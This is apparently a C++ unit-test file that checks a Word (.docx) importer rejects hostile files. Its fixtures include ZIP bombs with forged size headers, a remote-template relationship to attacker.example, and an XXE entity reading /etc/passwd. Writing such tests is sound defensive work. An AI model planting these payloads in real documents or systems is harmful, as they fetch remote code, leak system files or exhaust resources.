// Hostile Word files give a clear error, never a crash or a hang: not a ZIP, an old .doc, a
// truncated archive, a ZIP bomb (by its directory, and one whose directory lies), huge tables,
// a relationship to an outside resource.
#include "docx_import/docx_archive.h"

#include <gtest/gtest.h>

#include <chrono>

#include "docx_import/docx_fixtures.h"
#include "docx_import/import_limits.h"

namespace renaksi {
namespace {

const char* const kDocument =
    "<?xml version=\"1.0\"?><w:document xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\">"
    "<w:body><w:p><w:r><w:t>x</w:t></w:r></w:p></w:body></w:document>";

struct Checked {
  bool ok = false;
  Diagnostics diags;
  docx_import::DocxParts parts;
  Code code() const { return diags.all().empty() ? Code::L001 : diags.all().front().code; }
  std::string message() const { return diags.all().empty() ? "" : diags.all().front().str(); }
};

Checked check(const std::string& bytes) {
  Checked c;
  c.ok = docx_import::check_docx_archive(bytes, "proposal.docx", c.diags, c.parts);
  EXPECT_EQ(c.ok, c.diags.all().empty()) << c.message();
  return c;
}

TEST(DocxArchive, AWholeWordFilePasses) {
  const Checked c = check(testing::make_zip({{"[Content_Types].xml", "<Types/>"}, {"word/document.xml", kDocument}}));
  EXPECT_TRUE(c.ok) << c.message();
  EXPECT_EQ(c.parts.document_xml, kDocument);
}

TEST(DocxArchive, NotAZipIsI001) {
  const Checked c = check("Dear secretariat,\nplease find our proposal.\n");
  EXPECT_FALSE(c.ok);
  EXPECT_EQ(c.code(), Code::I001);
  EXPECT_NE(c.message().find("not a Word document"), std::string::npos);
  const Checked doc = check(std::string("\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1", 8) + std::string(600, '\0'));
  EXPECT_EQ(doc.code(), Code::I001);
  EXPECT_NE(doc.message().find("save it as .docx"), std::string::npos);
}

TEST(DocxArchive, ATruncatedArchiveIsI001) {
  const std::string zip = testing::make_zip({{"word/document.xml", std::string(20000, 'a') + kDocument}});
  EXPECT_EQ(check(zip.substr(0, zip.size() / 2)).code(), Code::I001);
}

TEST(DocxArchive, AZipWithoutTheDocumentIsI001) {
  const Checked c = check(testing::make_zip({{"content.xml", kDocument}}));
  EXPECT_EQ(c.code(), Code::I001);
  EXPECT_NE(c.message().find("word/document.xml"), std::string::npos);
}

TEST(DocxArchive, AZipBombIsI002ByItsDirectory) {
  // 70 MiB of zeros pack into some 70 KiB: the directory says so, and nothing is unpacked.
  const std::string zip = testing::make_zip({{"word/document.xml", kDocument}, {"word/media/big.bin", std::string(70u << 20, '\0')}});
  ASSERT_LT(zip.size(), 1u << 20);
  const auto start = std::chrono::steady_clock::now();
  const Checked c = check(zip);
  EXPECT_EQ(c.code(), Code::I002) << c.message();
  EXPECT_NE(c.message().find("ZIP bomb"), std::string::npos);
  EXPECT_LT(std::chrono::steady_clock::now() - start, std::chrono::seconds(2));
}

TEST(DocxArchive, APartThatUnpacksToMoreThanItDeclaresStops) {
  // 2 MiB of zeros whose directory and local header say 1000 bytes.
  std::string zip = testing::make_zip({{"word/document.xml", kDocument}, {"word/media/a.bin", std::string(2u << 20, '\0')}});
  const std::string name = "word/media/a.bin";
  for (size_t at = zip.find(name); at != std::string::npos; at = zip.find(name, at + 1)) {
    // a local header (name at +30) or a central record (name at +46): the uncompressed size field
    const bool central = at >= 46 && zip.compare(at - 46, 4, "PK\x01\x02") == 0;
    const bool local = at >= 30 && zip.compare(at - 30, 4, "PK\x03\x04") == 0;
    const size_t field = central ? at - 46 + 24 : local ? at - 30 + 22 : std::string::npos;
    if (field == std::string::npos) continue;
    zip[field] = static_cast<char>(0xE8);
    zip[field + 1] = 0x03;
    zip[field + 2] = 0;
    zip[field + 3] = 0;
  }
  const Checked c = check(zip);
  EXPECT_FALSE(c.ok);
  EXPECT_TRUE(c.code() == Code::I002 || c.code() == Code::I001) << c.message();
}

TEST(DocxArchive, HugeTablesAreI004BeforePandoc) {
  std::string rows;
  for (size_t i = 0; i < docx_import::limits::kMaxRowsInAll + 1; ++i) rows += "<w:tr><w:tc><w:p/></w:tc></w:tr>";
  const std::string doc = std::string("<w:document xmlns:w=\"w\"><w:body><w:tbl>") + rows + "</w:tbl></w:body></w:document>";
  const Checked c = check(testing::make_zip({{"word/document.xml", doc}}));
  EXPECT_EQ(c.code(), Code::I004) << c.message();
}

TEST(DocxArchive, AnOutsideResourceIsI005AndAHyperlinkIsKept) {
  const std::string rels =
      "<?xml version=\"1.0\"?><Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
      "<Relationship Id=\"rId1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink\" "
      "Target=\"https://opentender.net\" TargetMode=\"External\"/>"
      "<Relationship Id=\"rId2\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate\" "
      "Target=\"http://attacker.example/t.dotm\" TargetMode=\"External\"/></Relationships>";
  const Checked c = check(testing::make_zip({{"word/document.xml", kDocument}, {"word/_rels/settings.xml.rels", rels}}));
  EXPECT_EQ(c.code(), Code::I005) << c.message();
  EXPECT_NE(c.message().find("attachedTemplate"), std::string::npos);
  EXPECT_NE(c.message().find("does not fetch"), std::string::npos);
  const std::string links_only = rels.substr(0, rels.find("<Relationship Id=\"rId2\"")) + "</Relationships>";
  const Checked ok = check(testing::make_zip({{"word/document.xml", kDocument}, {"word/_rels/document.xml.rels", links_only}}));
  EXPECT_TRUE(ok.ok) << ok.message();
  EXPECT_EQ(ok.parts.hyperlink_targets, std::vector<std::string>{"https://opentender.net"});
}

TEST(DocxArchive, ARelationshipsPartWithADoctypeIsRefused) {
  const std::string rels = "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><Relationships>&e;</Relationships>";
  const Checked c = check(testing::make_zip({{"word/document.xml", kDocument}, {"word/_rels/document.xml.rels", rels}}));
  EXPECT_EQ(c.code(), Code::I001) << c.message();
}

}  // namespace
}  // namespace renaksi
